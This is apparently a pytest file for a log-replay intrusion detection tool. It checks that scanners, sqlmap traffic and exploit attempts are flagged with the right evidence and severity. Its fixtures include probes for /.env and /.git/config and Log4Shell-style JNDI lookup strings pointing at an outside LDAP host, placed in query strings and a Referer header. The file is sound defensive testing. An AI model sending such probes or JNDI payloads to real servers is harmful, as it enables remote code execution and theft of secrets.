"""A log through the live rules."""

from __future__ import annotations

from ip_tracking.detection.bursts import READ_BACK, find
from ip_tracking.detection.finding import Severity
from ip_tracking.detection.rules import RULES
from ip_tracking.detection.symptoms import symptoms_of
from ip_tracking.replay.access_log import parse
from ip_tracking.replay.engine import Replay
from tests.replay.lines import line


def replayed(*lines: str) -> Replay:
    replay = Replay()
    replay.read(lines, "access.log")
    return replay


def test_a_scanner_is_found_with_the_lines_that_show_it():
    replay = replayed(line("/"), line("/.env"), line("/shop/"), line("/.git/config", at="12:00:01"))

    [suspect] = replay.suspects()

    assert suspect.network == "203.0.113.9"
    assert suspect.severity is Severity.HIGH
    assert suspect.is_flagged
    assert [event.request_id for event in suspect.findings[0].evidence] == ["access.log:2", "access.log:4"]


def test_a_shopper_is_not_a_suspect():
    looks = (line(f"/api/products/{n}/", at=f"12:00:{n:02d}", status=200) for n in range(50))
    replay = replayed(*looks, line("/favicon.ico"))

    assert replay.suspects() == []


def test_lines_are_counted_and_the_first_unparsed_ones_kept():
    replay = replayed(line("/"), "nonsense\n", "\n", *["rubbish\n"] * 9)

    assert (replay.lines, replay.parsed, replay.unparsed) == (11, 1, 10)
    assert replay.unparsed_shown[0] == ("access.log:2", "nonsense")
    assert len(replay.unparsed_shown) == 5


def test_evidence_keeps_the_order_of_the_file_within_a_second():
    lines = [line("/")] * 8 + [line(f"/.env.{name}") for name in "abcdef"]

    [suspect] = replayed(*lines).suspects()

    finding = next(finding for finding in suspect.findings if finding.rule == "sensitive-files")
    assert [event.request_id for event in finding.evidence] == [f"access.log:{n}" for n in range(9, 15)]


def test_lines_of_two_files_count_together():
    replay = Replay()
    replay.read([line("/.env")], "a.log")
    replay.read([line("/.git/config")], "b.log")

    [suspect] = replay.suspects()

    assert [event.request_id for event in suspect.findings[0].evidence] == ["a.log:1", "b.log:1"]


def test_a_file_read_twice_counts_once():
    replay = Replay()
    replay.read([line("/.env")], "a.log")
    replay.read([line("/.env")], "a.log")

    assert replay.suspects() == []


def test_an_exploit_behind_what_a_row_keeps_is_seen():
    replay = replayed(line("/?a=" + "x" * 2_000 + "&b=${jndi:ldap://198.51.100.7/a}", status=200))

    [suspect] = replay.suspects()

    assert len(suspect.findings[0].evidence[0].query) == 512


def test_an_exploit_in_the_referer_is_seen():
    replay = replayed(line("/", status=200, referer="${jndi:ldap://198.51.100.7/a}"))

    assert replay.suspects()[0].findings[0].rule == "exploit-attempt"


def test_suspects_come_with_the_worst_first():
    medium = line("/", network="198.51.100.1", agent="sqlmap/1.8")
    high = line("/?x=${jndi:ldap://a/b}", network="198.51.100.2")

    suspects = replayed(medium, high).suspects()

    assert [suspect.network for suspect in suspects] == ["198.51.100.2", "198.51.100.1"]
    assert [suspect.score for suspect in suspects] == [40, 20]


def test_memory_holds_no_more_than_the_cap_of_an_hour():
    replay = Replay()

    replay.read((line(f"/{'x' * (n % 99)}{n}.env") for n in range(9 * READ_BACK)), "a.log")

    assert sum(map(len, replay._kept.values())) <= 4 * READ_BACK
    assert max(finding.count for finding in replay.suspects()[0].findings) == READ_BACK


def test_a_log_and_live_traffic_come_to_the_same_findings():
    """The same requests as live events: only who counted the requests differs."""
    lines = [line(f"/{name}/{name}.php", at=f"12:00:{second:02d}") for second, name in enumerate("abcdefghijklm")]
    parsed = [parse(text).event for text in lines]
    live = [event._replace(request_id=f"r{n}", symptoms=symptoms_of(event)) for n, event in enumerate(parsed)]

    [suspect] = replayed(*lines).suspects()

    def told(findings):
        return [(f.network, f.rule, f.hour_us, f.count, f.first_seen_us, f.last_seen_us) for f in findings]

    assert told(suspect.findings) == told(find(live, RULES))
